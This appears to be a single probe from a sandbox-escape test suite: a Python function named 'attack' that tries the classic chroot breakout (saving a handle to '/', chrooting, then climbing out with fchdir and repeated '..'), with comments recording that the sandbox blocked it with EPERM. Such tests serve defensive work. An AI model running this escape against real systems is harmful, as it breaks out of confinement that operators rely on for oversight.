# what: another root folder, the classic way out
# control: privileged
# held: returned EPERM
import os


def attack(host):
    os.makedirs("/tmp/cell", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    try:
        os.chroot("/tmp/cell")
    except OSError:
        return []
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return ["chroot", *os.listdir("/")[:3]]
